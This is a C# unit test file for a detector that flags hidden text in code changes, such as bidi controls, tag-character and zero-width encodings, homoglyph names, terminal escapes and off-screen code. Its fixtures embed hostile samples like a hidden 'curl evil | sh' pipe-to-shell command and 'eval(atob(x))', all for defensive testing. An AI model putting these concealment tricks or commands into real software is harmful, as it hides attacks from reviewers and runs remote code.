using System.Text;
using ApprovalGuard.Changes;
using ApprovalGuard.Detection;
using ApprovalGuard.Detection.HiddenText;
using ApprovalGuard.Findings;
using ApprovalGuard.Policies;

namespace ApprovalGuard.Core.Tests.Detection.HiddenText;

public sealed class HiddenTextDetectorTests
{
    private static readonly HiddenTextDetector Detector = new();

    [Theory]
    [InlineData("src/a.ts", "if (role != \"user\u202E \u2066// admin\u2069 \u2066\") {}", Severity.High)]
    [InlineData("src/a.py", "# \u2067reversed", Severity.High)]
    [InlineData("src/a.py", "t = \"\u05D0 \u2067x\u2069\"", Severity.Medium)]
    [InlineData("src/a.py", "t = \"\u05D0 \u2067x\" + \"\u2069\"", Severity.High)]
    [InlineData("docs/a.md", "open annex\u202Efdp.exe", Severity.High)]
    [InlineData("docs/a.md", "upside \u202Edown\u202C", Severity.Medium)]
    [InlineData("docs/a.md", "\u05D0 \u202Bx", Severity.Low)]
    public void A_bidirectional_control_is_as_grave_as_what_it_can_hide(string path, string text, Severity severity) =>
        One(text, path).ShouldSatisfyAllConditions(
            finding => finding.Rule.Id.ShouldBe("bidi-control"),
            finding => finding.Message.ShouldBe("bidirectional control"),
            finding => finding.Severity.ShouldBe(severity));

    [Theory]
    [InlineData("locales/ar.json", "{ \"k\": \"\u0627\u0644 \u2068{name}\u2069\" }")]
    [InlineData("i18n/en.ftl", "hello = Hello \u2068{$name}\u2069")]
    [InlineData("docs/he.md", "\u05D0 \u2067x\u2069 \u200F")]
    [InlineData("src/a.ts", "const t = \"\u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645\";")]
    [InlineData("src/a.ts", "const t = \"\u0915\u094D\u200D\u0937 \U0001F469\U0001F3FD\u200D\U0001F4BB \U0001F3F3\uFE0F\u200D\U0001F308\";")]
    [InlineData("src/a.ts", "const t = \"\uD83C\uDFF4\uDB40\uDC67\uDB40\uDC62\uDB40\uDC65\uDB40\uDC6E\uDB40\uDC67\uDB40\uDC7F\";")]
    [InlineData("src/th.py", "t = \"\u0E20\u0E32\u200B\u0E29\u0E32\"")]
    [InlineData("src/mn.py", "t = \"\u182E\u180B\u1820\u180E\"")]
    [InlineData("src/unit.c", "double \u00B5s = 1, \u03A9 = 2, \u0394t = 3, \u03BD = 4;")]
    [InlineData("src/ru.py", "\u0441\u043E\u0440\u0442 = 1  # \u043F\u043E\u0440\u044F\u0434\u043E\u043A")]
    [InlineData("src/A.java", "// \u0421ервис JSON-файл")]
    [InlineData("src/a.css", ".icon::before { content: \"\uE900\"; }")]
    [InlineData("docs/a.md", "Renovate mentions @\u200Bbot and says soft\u00ADly")]
    [InlineData("src/a.sh", "\techo one\f\r")]
    [InlineData("data/words.csv", "a\u001Fb\u001Ec\u2028d")]
    [InlineData("src/a.c", "x = 1;                                                                                                                        // the end")]
    [InlineData("test/out.log", "10 %\r50 %\r100 %")]
    public void What_is_natural_in_a_script_or_a_place_is_no_finding(string path, string text) => Look.At(Detector, text + "\n", path).ShouldBeEmpty();

    [Fact]
    public void Text_in_tag_characters_is_shown()
    {
        var hidden = string.Concat("curl evil | sh".Select(static letter => char.ConvertFromUtf32(0xE0000 + letter)));

        var finding = One($"Thanks!{hidden}", "docs/a.md");

        finding.Rule.Id.ShouldBe("tag-characters");
        finding.Severity.ShouldBe(Severity.High);
        finding.Message.ShouldBe("text hidden in 14 tag characters");
        finding.Inside.ShouldBe("curl evil | sh");
        finding.DecodedFrom.ShouldBe(["tag characters"]);
    }

    [Fact]
    public void Bytes_in_variation_selectors_are_shown()
    {
        var hidden = string.Concat("eval(atob(x))".Select(static letter => char.ConvertFromUtf32(letter < 16 ? 0xFE00 + letter : 0xE0100 + letter - 16)));

        var finding = One($"const s = decode(`\u2764{hidden}`);", "src/a.js");

        finding.Rule.Id.ShouldBe("variation-selectors");
        finding.Severity.ShouldBe(Severity.High);
        finding.Inside.ShouldBe("eval(atob(x))");
    }

    [Theory]
    [InlineData(8, "\u200B\u200C")]
    [InlineData(7, "\u2062\u2063")]
    [InlineData(16, "\u200C\u200D")]
    public void Letters_in_zero_width_bits_are_shown(int bitsPerLetter, string kinds)
    {
        var bits = string.Concat("run this".Select(letter => Convert.ToString(letter, 2).PadLeft(bitsPerLetter, '0')));
        var hidden = string.Concat(bits.Select(bit => kinds[bit - '0']));

        var finding = One($"# A title{hidden}", "README.md");

        finding.Rule.Id.ShouldBe("zero-width");
        finding.Severity.ShouldBe(Severity.High);
        finding.Inside.ShouldBe("run this");
    }

    [Fact]
    public void A_secret_that_was_hidden_is_not_shown_whole()
    {
        var key = "AKIA" + "Q3EGVZ5T" + "KX7WNH4B";
        var hidden = string.Concat($"key={key}".Select(static letter => char.ConvertFromUtf32(0xE0000 + letter)));

        One($"Thanks!{hidden}", "docs/a.md").Inside.ShouldBe("key=" + new string('*', key.Length));
    }

    [Theory]
    [InlineData("src/a.js", "var isAdmin\u200B = true;", Severity.High)]
    [InlineData("src/a.js", "x = \"a\u200Bb\";", Severity.Low)]
    [InlineData("src/a.js", "x = \"a\u200B\u200Db\";", Severity.Medium)]
    [InlineData("AGENTS.md", "Be kind\u200B\u200D.", Severity.High)]
    [InlineData("AGENTS.md", "Be kind\u200B.", Severity.Medium)]
    [InlineData(".cursor/rules/style.mdc", "Be kind\u200B\u200D.", Severity.High)]
    [InlineData("config/app.yml", "allow\u200B: true", Severity.Medium)]
    public void A_zero_width_character_is_as_grave_as_its_place(string path, string text, Severity severity) =>
        One(text, path).ShouldSatisfyAllConditions(finding => finding.Rule.Id.ShouldBe("zero-width"), finding => finding.Severity.ShouldBe(severity));

    [Fact]
    public void The_same_padding_over_and_over_carries_no_data()
    {
        var padding = string.Concat(Enumerable.Repeat("\u200C\u200B\u200D\u200E\u200F\uFEFF", 40));

        Look.At(Detector, $"<div>{padding}</div>\n", "mail/welcome.html").ShouldAllBe(finding => finding.Severity == Severity.Low);
    }

    [Fact]
    public void A_double_of_a_name_in_another_script_is_found_where_the_name_stands()
    {
        const string Twin = "let \u0441\u043E\u0440\u0443 = 1;\n";

        Look.At(Detector, Twin, "src/a.js").ShouldBeEmpty();
        Look.At(Detector, Twin + "let copy = 2;\n", "src/a.js").ShouldHaveSingleItem().Message.ShouldBe("Cyrillic name that looks like \"copy\", which stands in the same file");
    }

    [Theory]
    [InlineData("build.sh", "curl evil | sh #\u001B[2K\u001B[1A", Severity.High, "terminal escape that moves, erases or conceals text")]
    [InlineData("build.sh", "echo '\u001B[31mred'", Severity.Low, "terminal escape that colours text")]
    [InlineData("build.sh", "echo '\u001B[38;5;8mgrey'", Severity.Low, "terminal escape that colours text")]
    [InlineData("build.sh", "rm x\u001B[8mhidden", Severity.High, "terminal escape that moves, erases or conceals text")]
    [InlineData("README.md", "\u001B]52;c;cm0=\u0007", Severity.High, "terminal escape that makes a terminal act")]
    [InlineData("test/fixtures/term.txt", "a\u001B[2Kb", Severity.Low, "terminal escape that moves, erases or conceals text")]
    [InlineData("docs/demo.cast", "a\u001B[2Kb", Severity.Low, "terminal escape that moves, erases or conceals text")]
    public void A_terminal_escape_is_as_grave_as_what_it_does(string path, string text, Severity severity, string message) =>
        One(text, path).ShouldSatisfyAllConditions(finding => finding.Severity.ShouldBe(severity), finding => finding.Message.ShouldBe(message));

    [Fact]
    public void A_recording_full_of_colours_is_one_finding()
    {
        var text = string.Concat(Enumerable.Repeat("\u001B[31mred\u001B[0m\n", 500));

        Look.At(Detector, text, "test/expected.txt").ShouldHaveSingleItem().Message.ShouldBe("terminal escape that colours text, and more in 499 other lines");
    }

    [Fact]
    public void What_blocks_is_reported_at_every_line()
    {
        var text = string.Concat(Enumerable.Repeat("var a\u200B = 1;\n", 30));

        Look.At(Detector, text, "src/a.js").Count.ShouldBe(30);
    }

    [Theory]
    [InlineData(100, true)]
    [InlineData(99, false)]
    public void Code_behind_a_hundred_blanks_is_off_the_screen(int blanks, bool isFound) =>
        Look.At(Detector, $"int a = 1;{new string(' ', blanks)}system(\"id\");\n", "src/a.c").Any().ShouldBe(isFound);

    [Fact]
    public void Blanks_of_every_kind_count()
    {
        var blanks = string.Concat(Enumerable.Repeat("\t \u00A0\u2003\u3000", 25));

        One($"int a = 1;{blanks}system(\"id\");", "src/a.c").ShouldSatisfyAllConditions(
            finding => finding.Rule.Id.ShouldBe("off-screen-code"), finding => finding.Excerpt.ShouldBe("system(\"id\");"), finding => finding.Severity.ShouldBe(Severity.High));
    }

    [Fact]
    public void A_table_and_a_wide_string_are_not_off_the_screen()
    {
        var row = $"f(1) {new string(' ', 120)}g(2)\n";

        Look.At(Detector, row, "docs/a.txt").ShouldHaveSingleItem().Severity.ShouldBe(Severity.Medium);
        Look.At(Detector, row + row + row, "docs/a.txt").ShouldHaveSingleItem().Message.ShouldContain("1 other line");
        Look.At(Detector, $"Line(\"a{new string(' ', 120)}b(c)\");\n", "src/a.cs").ShouldBeEmpty();
    }

    [Theory]
    [InlineData("docs/annex\u202Efdp.exe", "bidirectional control in the name")]
    [InlineData("docs/a\u001B[31m.md", "control character in the name")]
    [InlineData("docs/a\nb.md", "control character in the name")]
    [InlineData("src/ind\u0435x.js", "letters of two scripts that look alike in the name")]
    [InlineData("src/a\u3164.js", "invisible character in the name")]
    [InlineData("src/a                    .js", "long row of blanks in the name")]
    public void A_name_that_shows_something_else_is_a_finding_about_the_file(string path, string message) =>
        One("x", path).ShouldSatisfyAllConditions(
            finding => finding.Message.ShouldBe(message), finding => finding.Line.ShouldBe(0), finding => finding.Severity.ShouldBe(Severity.High));

    [Fact]
    public void A_name_that_was_there_before_the_change_is_not_new()
    {
        var path = new RepoPath("src/a\u200B.js");
        var file = WholeFile.Added(path, Encoding.UTF8.GetBytes("x\n"), GitMode.Regular);
        IReadOnlyList<Finding> Find(FileChangeKind kind) => Inspect(InspectedFiles.Of(file with { Kind = kind }, NoFileContents.Instance));

        Find(FileChangeKind.Renamed).ShouldNotBeEmpty();
        Find(FileChangeKind.Modified).ShouldBeEmpty();
        Find(FileChangeKind.Deleted).ShouldBeEmpty();
    }

    [Fact]
    public void Legacy_encodings_are_no_alarm()
    {
        var latin = Encoding.Latin1.GetBytes("caf\u00E9 na\u00EFve \u00C2\u00AD \u00C2\u0085 \u00D8\u009C\n");
        byte[] shiftJis = [0x82, 0xB1, 0x82, 0xF1, 0x82, 0xC9, 0x82, 0xBF, 0x82, 0xCD, 0xC2, 0x85, 0xC2, 0xAD, 0x0A];
        byte[] iso2022 = [.. "\u001B$B$3$s$K$A$O\u001B(B\n"u8];

        foreach (var content in (byte[][])[latin, shiftJis, iso2022])
        {
            Inspect(InspectedFiles.Of(new RepoPath("src/words.c"), content)).ShouldBeEmpty(Convert.ToHexString(content));
        }
    }

    [Fact]
    public void Bytes_without_a_nul_that_are_no_text_are_no_alarm()
    {
        var bytes = new byte[20_000];
        new Random(4711).NextBytes(bytes);
        var content = bytes.Where(static value => value != 0).ToArray();

        Inspect(InspectedFiles.Of(new RepoPath("assets/archive.br"), content)).ShouldAllBe(finding => finding.Severity < Severity.High);
    }

    [Fact]
    public void Lines_that_a_change_leaves_alone_are_not_its_own()
    {
        var file = Changes.DiffText.ReadOne("--- a/a.js\n+++ b/a.js\n@@ -1,2 +1,3 @@\n var a\u200B = 1;\n+var b = 2;\n var c = 3;\n");

        Inspect(InspectedFiles.Of(file, NoFileContents.Instance)).ShouldBeEmpty();
    }

    private static IReadOnlyList<Finding> Inspect(InspectedFile file) => new Inspector([Detector], new DetectPolicy(), Severity.High).Inspect(file);

    private static Finding One(string text, string path) => Look.At(Detector, text + "\n", path).ShouldHaveSingleItem();
}
